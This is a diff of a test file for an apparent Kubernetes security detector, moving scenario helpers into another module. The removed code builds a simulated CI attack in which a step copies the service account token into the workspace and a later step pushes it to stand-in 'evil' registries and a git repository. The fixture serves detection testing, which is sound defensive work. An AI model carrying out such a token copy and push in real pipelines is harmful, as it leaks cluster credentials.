@@ -6,53 +6,8 @@
  * reading the copy reads a secret (src/correlate/pod-copies.ts).
  */
 import { describe, expect, it } from 'vitest';
-import type { Alert } from '../../../src/model/alert.js';
-import { runResolved, Scenario } from './builder.js';
-
-const GHCR = '140.82.121.33';
-const TOKEN = '/var/run/secrets/kubernetes.io/serviceaccount/token';
-type Pusher = 'kaniko' | 'buildah' | 'git';
-const PUSHERS: Record<Pusher, [string, string]> = {
-  kaniko: ['/kaniko/executor', '--context dir:///workspace/source --destination ghcr.io/evil/x:1'],
-  buildah: ['/usr/bin/buildah', 'push ghcr.io/evil/x:1'],
-  git: ['/usr/bin/git', 'push https://github.com/evil/x main'],
-};
-
-const summary = (alerts: readonly Alert[]) =>
-  alerts.map((a) => [a.rule, a.severity, a.container.name, a.push.tool, a.reads.sensitive]);
-
-interface Steps {
-  source?: 'tetragon' | 'falco';
-  pusher?: Pusher;
-  /** Step 1's copy (`cp ARGS`, or `binary ARGS`). */
-  copy?: string;
-  binary?: string;
-  /** What step 2 reads before pushing. */
-  reads?: string[];
-  /** Step 2 runs in another pod (same namespace and node). */
-  otherPod?: boolean;
-}
-
-function steps(o: Steps = {}) {
-  const s = new Scenario({ source: o.source ?? 'tetragon' });
-  const pod = 'build-run-7x2-pod';
-  const step1 = s.container({ namespace: 'ci', pod, name: 'step-fetch', image: 'docker.io/library/alpine:3' });
-  const step2 = s.container({
-    namespace: 'ci',
-    pod: o.otherPod ? 'other-run-pod' : pod,
-    name: 'step-build',
-    image: 'gcr.io/kaniko-project/executor:v1.23.0',
-  });
-  const sh1 = s.init(step1, '/tekton/bin/entrypoint', '-post_file /tekton/run/0/out -entrypoint /bin/sh');
-  const cp = s.exec(step1, o.binary ?? '/bin/cp', o.copy ?? `${TOKEN} /workspace/source/`, { parent: sh1 });
-  s.read(cp, TOKEN, 1_000).exit(cp).exit(sh1).wait(3_000);
-  const sh2 = s.init(step2, '/tekton/bin/entrypoint', '-wait_file /tekton/run/0/out -entrypoint /bin/sh');
-  const [binary, args] = PUSHERS[o.pusher ?? 'kaniko'];
-  const p = s.exec(step2, binary, args, { parent: sh2 });
-  for (const path of o.reads ?? ['/workspace/source/token', '/workspace/source/Dockerfile']) s.read(p, path, 1_000);
-  s.connect(p, GHCR, 443).send(p, GHCR, 443, 200_000).wait(2_000).exit(p).wait(60_000);
-  return s.events;
-}
+import { runResolved } from './builder.js';
+import { type Steps, steps, summary, TOKEN } from './workspace-scenario.js';
 
 describe("a secret a pod's step copied into the workspace, pushed by another step", () => {
   for (const source of ['tetragon', 'falco'] as const)
